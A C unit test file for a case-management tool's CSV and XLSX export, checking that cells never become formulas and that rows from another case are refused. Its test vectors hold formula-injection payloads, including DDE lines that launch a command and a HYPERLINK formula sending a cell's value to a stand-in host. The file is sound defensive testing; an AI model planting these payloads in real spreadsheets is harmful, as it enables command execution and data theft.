/* Tables that are handed out: nothing becomes a formula, nothing of another case gets in. */
#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <string.h>

#include "exchange/fw-exchange-error.h"
#include "exchange/fw-sheet.h"

/* What spreadsheets have run from a cell, and what only looks like it. */
static const char *const vectors[] = {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+49 221 4710 142",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xef\xbb\xbf=1+1",
    "\xe2\x80\x8b=1+1",
    "\xc2\xa0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=HYPERLINK(\"http://x.example/?\"&A1;\"mehr\")",
    "=1+1\";=2+2",
};
static const char *const harmless[] = {
    "Schulbericht einholen",
    "1+1=2",
    "a;b",
    "er sagte \"=1\"",
    "Zeile eins\nZeile zwei",
    "– entfallen",
    "0231",
    "Größe, ß, 日本",
    "_x0041_",
    "'schon geschützt",
};

static FwSheet *
make_sheet (gint64 case_id)
{
  FwSheet *sheet = fw_sheet_new ("Beschlüsse: [alle] / offen?", case_id);

  fw_sheet_add_column (sheet, "Was", FW_CELL_TEXT, 40);
  fw_sheet_add_column (sheet, "AT", FW_CELL_INT, 6);
  fw_sheet_add_column (sheet, "Bis wann", FW_CELL_DAY, 12);
  return sheet;
}

static void
add_row (FwSheet *sheet, const char *text, gint64 value, FwDay day)
{
  g_assert_true (fw_sheet_begin_row (sheet, 0, NULL));
  fw_sheet_add_text (sheet, text);
  fw_sheet_add_int (sheet, value);
  fw_sheet_add_day (sheet, day);
}

static char *
dup_text (GBytes *bytes)
{
  g_assert_nonnull (bytes);
  return g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
}

static void
test_csv_bytes (void)
{
  g_autoptr (FwSheet) sheet = make_sheet (0);
  g_autoptr (GBytes) bytes = NULL;
  g_autofree char *text = NULL;

  add_row (sheet, "=1+1", -3, fw_day_new (2026, 11, 27));
  add_row (sheet, "a;b\"c", 0, FW_DAY_NONE);
  g_assert_true (fw_sheet_begin_row (sheet, 0, NULL)); /* nothing added */
  add_row (sheet, "zwei\r\nZeilen", 12, fw_day_new (1999, 1, 2));
  bytes = fw_sheet_to_csv (sheet, NULL);
  text = dup_text (bytes);
  /* A negative number of its own column stays a number. */
  g_assert_cmpstr (text, ==,
                   "\xef\xbb\xbfWas;AT;Bis wann\r\n"
                   "'=1+1;-3;2026-11-27\r\n"
                   "\"a;b\"\"c\";0;\r\n"
                   ";;\r\n"
                   "\"zwei\r\nZeilen\";12;1999-01-02\r\n");
}

/* What Python's own reader makes of a file. */
static JsonArray *
read_back (GBytes *bytes, const char *ending)
{
  g_autofree char *folder = g_dir_make_tmp ("fallwerk-sheet-XXXXXX", NULL);
  g_autofree char *name = g_strconcat ("sheet.", ending, NULL);
  g_autofree char *path = g_build_filename (folder, name, NULL);
  g_autofree char *script
      = g_build_filename (g_getenv ("FALLWERK_TOP"), "tests", "unit", "read-sheet.py", NULL);
  const char *argv[] = {"python3", script, path, NULL};
  g_autofree char *out = NULL, *problem = NULL;
  g_autoptr (JsonNode) root = NULL;
  g_autoptr (GError) error = NULL;
  int status = 0;

  g_assert_nonnull (bytes);
  if (g_getenv ("FALLWERK_KEEP_SHEET") != NULL && g_str_equal (ending, "xlsx"))
    g_file_set_contents (g_getenv ("FALLWERK_KEEP_SHEET"), g_bytes_get_data (bytes, NULL),
                         (gssize) g_bytes_get_size (bytes), NULL);
  g_assert_true (g_file_set_contents (path, g_bytes_get_data (bytes, NULL),
                                      (gssize) g_bytes_get_size (bytes), NULL));
  g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out,
                               &problem, &status, &error));
  if (!g_spawn_check_wait_status (status, &error))
    g_error ("%s", problem);
  g_unlink (path);
  g_rmdir (folder);
  root = json_from_string (out, &error);
  g_assert_no_error (error);
  return json_array_ref (json_node_get_array (root));
}

static FwSheet *
make_full_sheet (void)
{
  FwSheet *sheet = make_sheet (0);

  for (guint i = 0; i < G_N_ELEMENTS (vectors); i++)
    add_row (sheet, vectors[i], (gint64) i - 5, fw_day_new (2026, 1, 1) + (int) i);
  for (guint i = 0; i < G_N_ELEMENTS (harmless); i++)
    add_row (sheet, harmless[i], 1000 + (gint64) i, FW_DAY_NONE);
  return sheet;
}

static void
test_csv (void)
{
  g_autoptr (FwSheet) sheet = make_full_sheet ();
  g_autoptr (GBytes) bytes = fw_sheet_to_csv (sheet, NULL);
  g_autoptr (JsonArray) rows = read_back (bytes, "csv");
  guint n = G_N_ELEMENTS (vectors);

  g_assert_cmpuint (json_array_get_length (rows), ==, 1 + n + G_N_ELEMENTS (harmless));
  for (guint i = 0; i < n + G_N_ELEMENTS (harmless); i++)
    {
      JsonArray *row = json_array_get_array_element (rows, i + 1);
      const char *cell = json_array_get_string_element (row, 0);
      g_autofree char *number = g_strdup_printf ("%d", i < n ? (int) i - 5 : 1000 + (int) (i - n));

      if (i < n)
        {
          g_assert_cmpint (cell[0], ==, '\'');
          g_assert_cmpstr (cell + 1, ==, vectors[i]);
        }
      else
        g_assert_cmpstr (cell, ==, harmless[i - n]);
      g_assert_cmpstr (json_array_get_string_element (row, 1), ==, number);
    }
}

static void
test_xlsx (void)
{
  g_autoptr (FwSheet) sheet = make_full_sheet ();
  g_autoptr (GBytes) bytes = fw_sheet_to_xlsx (sheet, "2026-11-24T10:00:00Z", NULL);
  g_autoptr (GBytes) again = fw_sheet_to_xlsx (sheet, "2026-11-24T10:00:00Z", NULL);
  g_autoptr (JsonArray) rows = read_back (bytes, "xlsx");
  guint n = G_N_ELEMENTS (vectors);

  g_assert_true (g_bytes_equal (bytes, again));
  g_assert_cmpuint (json_array_get_length (rows), ==, 1 + n + G_N_ELEMENTS (harmless));
  for (guint i = 0; i < n + G_N_ELEMENTS (harmless); i++)
    {
      JsonArray *row = json_array_get_array_element (rows, i + 1);
      JsonObject *text = json_array_get_object_element (row, 0);
      JsonObject *number = json_array_get_object_element (row, 1);
      const char *wanted = i < n ? vectors[i] : harmless[i - n];

      /* Always a string, never a formula, and the same text. */
      g_assert_cmpstr (json_object_get_string_member (text, "type"), ==, "s");
      if (strpbrk (wanted, "\r_") == NULL)
        g_assert_cmpstr (json_object_get_string_member (text, "value"), ==, wanted);
      g_assert_cmpstr (json_object_get_string_member (number, "type"), ==, "n");
      if (i < n)
        g_assert_cmpstr (
            json_object_get_string_member (json_array_get_object_element (row, 2), "type"), ==,
            "d");
      else
        g_assert_true (json_array_get_null_element (row, 2));
    }
}

static gboolean
holds (GBytes *bytes, const char *text)
{
  return memmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), text, strlen (text))
         != NULL;
}

/* Excel counts 2026-11-27 as day 46353. */
static void
test_xlsx_day (void)
{
  g_autoptr (FwSheet) sheet = make_sheet (0);
  g_autoptr (GBytes) bytes = NULL;

  add_row (sheet, "x", 1, fw_day_new (2026, 11, 27));
  bytes = fw_sheet_to_xlsx (sheet, "2026-11-24T10:00:00Z", NULL);
  g_assert_true (holds (bytes, "<c r=\"C2\" s=\"2\"><v>46353</v></c>"));
  g_assert_true (holds (bytes, "name=\"Beschlüsse alle  offen\""));
}

/* An export of one case with content of another is refused, and no file is made of what
 * was added before. */
static void
test_other_case (void)
{
  g_autoptr (FwSheet) sheet = make_sheet (17);
  g_autoptr (GError) error = NULL;

  g_assert_true (fw_sheet_begin_row (sheet, 17, &error));
  g_assert_no_error (error);
  fw_sheet_add_text (sheet, "mein Fall");
  g_assert_false (fw_sheet_begin_row (sheet, 18, &error));
  g_assert_error (error, FW_EXCHANGE_ERROR, FW_EXCHANGE_ERROR_OTHER_CASE);
  fw_sheet_add_text (sheet, "fremder Fall");
  g_clear_error (&error);
  g_assert_null (fw_sheet_to_csv (sheet, &error));
  g_assert_error (error, FW_EXCHANGE_ERROR, FW_EXCHANGE_ERROR_OTHER_CASE);
  g_clear_error (&error);
  g_assert_null (fw_sheet_to_xlsx (sheet, "2026-11-24T10:00:00Z", &error));
  g_assert_error (error, FW_EXCHANGE_ERROR, FW_EXCHANGE_ERROR_OTHER_CASE);
  g_clear_error (&error);
  /* A row about no case does not belong to this one either. */
  {
    g_autoptr (FwSheet) other = make_sheet (17);

    g_assert_false (fw_sheet_begin_row (other, 0, &error));
    g_assert_error (error, FW_EXCHANGE_ERROR, FW_EXCHANGE_ERROR_OTHER_CASE);
  }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/sheet/csv-byte-for-byte", test_csv_bytes);
  g_test_add_func ("/sheet/csv-holds-no-formula", test_csv);
  g_test_add_func ("/sheet/xlsx-holds-strings", test_xlsx);
  g_test_add_func ("/sheet/xlsx-holds-dates", test_xlsx_day);
  g_test_add_func ("/sheet/another-case-is-refused", test_other_case);
  return g_test_run ();
}
